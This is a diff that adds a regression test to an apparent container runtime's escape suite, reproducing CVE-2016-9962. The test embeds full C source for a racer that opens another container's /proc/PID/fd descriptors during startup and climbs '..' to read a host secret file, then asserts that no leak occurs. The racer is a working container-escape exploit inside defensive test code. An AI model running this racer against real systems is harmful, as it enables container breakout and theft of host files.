@@ -5,6 +5,86 @@ import Testing
 /// binary. Each test names the class of hole it guards.
 @Suite("escapes: what a container or its image must never reach")
 struct EscapeTests {
+    /// Class: the runtime's descriptors reached through /proc/PID/fd of a container process that
+    /// is still being set up (CVE-2016-9962). Between dropping its capabilities and its exec, a
+    /// container's first process is a copy of the monitor holding the monitor's descriptors, one
+    /// of them the host's cgroup directory; a process of another container in the same pid
+    /// namespace (`--pid container:racer`), with Docker's default capabilities, races to open
+    /// them and climb `..` to the host's root. The process must not be dumpable then.
+    @Test func aStartingContainersDescriptorsAreNotReachableFromItsPidNamespace() throws {
+        let root = try CellRoot()
+        try root.importBusybox()
+        let secret = "SECRET-\(UUID().uuidString)"
+        let secretFile = root.file("secret")
+        try secret.write(toFile: secretFile, atomically: true, encoding: .utf8)
+        let tools = root.file("racer-tools")
+        try FileManager.default.createDirectory(atPath: tools, withIntermediateDirectories: true)
+        // A static C racer: any new process's descriptors 3 to 40, `..` up from each to the
+        // host's root, then the secret's path; a win is written to /tools/won. Spinning, it tries
+        // thousands of times per victim's start.
+        let racer = """
+            #define _GNU_SOURCE
+            #include <fcntl.h>
+            #include <stdio.h>
+            #include <stdlib.h>
+            #include <string.h>
+            #include <time.h>
+            #include <unistd.h>
+            int main(int argc, char **argv) {
+                char target[4096];
+                snprintf(target, sizeof target, "../../../../../../../../../..%s", argv[1]);
+                time_t end = time(NULL) + atoi(argv[2]);
+                int ready = open("/tools/ready", O_WRONLY | O_CREAT, 0644);
+                if (ready >= 0) close(ready);
+                while (time(NULL) < end) {
+                    char text[32] = {0};
+                    int last = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
+                    if (last < 0) return 2;
+                    ssize_t n = read(last, text, sizeof text - 1);
+                    close(last);
+                    int newest = n > 0 ? atoi(text) : 0;
+                    for (int pid = newest > 2 ? newest - 1 : 2; pid <= newest + 2; pid++) {
+                        for (int fd = 3; fd <= 40; fd++) {
+                            char path[64];
+                            snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
+                            int directory = open(path, O_RDONLY | O_DIRECTORY);
+                            if (directory < 0) continue;
+                            int stolen = openat(directory, target, O_RDONLY);
+                            close(directory);
+                            if (stolen < 0) continue;
+                            char bytes[256] = {0};
+                            ssize_t got = read(stolen, bytes, sizeof bytes - 1);
+                            close(stolen);
+                            int won = open("/tools/won", O_WRONLY | O_CREAT | O_TRUNC, 0644);
+                            if (won >= 0 && got > 0) { dprintf(won, "pid %d fd %d: %s\\n", pid, fd, bytes); close(won); }
+                            return 1;
+                        }
+                    }
+                }
+                return 0;
+            }
+            """
+        try racer.write(toFile: "\(tools)/racer.c", atomically: true, encoding: .utf8)
+        let built = try Command.run("/usr/bin/env", ["clang", "-static", "-O2", "-o", "\(tools)/racer", "\(tools)/racer.c"])
+        try #require(built.status == 0, "clang: \(built.stderr)")
+        try root.cell("run", "-d", "--name", "racer", "-v", "\(tools):/tools", "busybox", "/tools/racer", secretFile, "60").expectSuccess()
+        defer { _ = try? root.cell("rm", "-f", "racer") }
+        #expect(waitUntil { FileManager.default.fileExists(atPath: "\(tools)/ready") })
+        // Victims joining its pid namespace, detached (cloned ahead) and removed at once (not).
+        for round in 0..<15 {
+            let flags = round % 2 == 0 ? ["-d"] : ["--rm"]
+            // Not checked: a racer that won ends, and its pid namespace with it.
+            _ = try root.cell(["run"] + flags + ["--pid", "container:racer", "busybox", "true"])
+            if FileManager.default.fileExists(atPath: "\(tools)/won") { break }
+        }
+        let won = (try? String(contentsOfFile: "\(tools)/won", encoding: .utf8)) ?? ""
+        #expect(won.isEmpty, "a container reached the host's files: \(won)")
+        #expect(!won.contains(secret))
+        let all = try root.cell("ps", "-aq").stdout.split(separator: "\n").map(String.init)
+        try root.cell(["rm", "-f"] + all).expectSuccess()
+        try expectNothingLeft(root)
+    }
+
     /// Class: a host process that opens a path inside a running container by name, after
     /// checking it by name (CVE-2018-15664). The container swaps a regular file and a block
     /// device node it made (of a host loop device) with renameat2(RENAME_EXCHANGE) in a loop;
